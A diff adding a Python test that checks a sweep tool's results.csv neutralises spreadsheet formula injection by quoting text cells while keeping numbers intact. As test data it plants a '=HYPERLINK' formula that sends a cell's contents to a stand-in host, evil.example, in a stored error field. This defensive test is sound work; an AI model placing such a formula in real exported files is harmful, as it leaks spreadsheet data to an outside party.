@@ -15,6 +15,7 @@ password in a place the masking must find.
 
 from __future__ import annotations
 
+import csv
 import dataclasses
 import json
 import os
@@ -263,3 +264,42 @@ def test_the_report_command_prints_no_control_character_of_the_stores(poisoned, 
                           text=True, env=env, cwd=tmp_path, timeout=120)
     assert done.returncode == 0, done.stderr[-600:]
     assert not CONTROL.findall(done.stdout + done.stderr), (done.stdout + done.stderr)[-600:]
+
+
+def test_results_csv_quotes_text_a_spreadsheet_would_run(tmp_path):
+    """A spreadsheet runs a cell that begins with ``=``, ``+``, ``-`` or ``@`` as a formula
+    (``=HYPERLINK(...)`` sends what the sheet holds elsewhere when clicked): the store's text
+    in ``results.csv`` (an error, a hyperparameter's name and value) is written after a
+    ``'``, which shows the text itself; numbers, negative ones included, stay numbers."""
+    db = tmp_path / "evil.db"
+    with RunStore(db) as store:
+        spec = SweepSpec(task="toy", optimizers=("sgd",), lrs=(0.1,), seeds=2,
+                         config=TrainConfig(steps=4, batch_size=16, eval_every=2))
+        sweep = run_sweep(spec, store, task=_task())
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    con = sqlite3.connect(db)
+    first, second = (r[0] for r in con.execute(
+        "SELECT id FROM runs WHERE sweep_id = ? ORDER BY id", (sweep,)))
+    con.execute("UPDATE runs SET status = 'failed', error = ? WHERE id = ?", (formula, first))
+    con.execute("UPDATE runs SET hparams = ? WHERE id = ?",
+                (json.dumps({"lr": 0.1, "@cmd": "+1+2", "shift": -0.5}), second))
+    con.commit()
+    con.close()
+    with RunStore(db, readonly=True) as store:
+        paths = write_report(store, sweep, tmp_path / "out")
+    with open(paths["results"], newline="", encoding="utf-8") as f:
+        header, *rows = list(csv.reader(f))
+    def number(cell: str) -> bool:
+        try:
+            float(cell)
+        except ValueError:
+            return False
+        return True
+
+    cells = header + [cell for row in rows for cell in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not number(c)]
+    assert "'@cmd" in header and "shift" in header
+    by_id = {row[0]: dict(zip(header, row)) for row in rows}
+    assert by_id[str(first)]["error"] == "'" + formula
+    assert by_id[str(second)]["'@cmd"] == "'+1+2"
+    assert float(by_id[str(second)]["shift"]) == -0.5  # a number is not text: left as it is
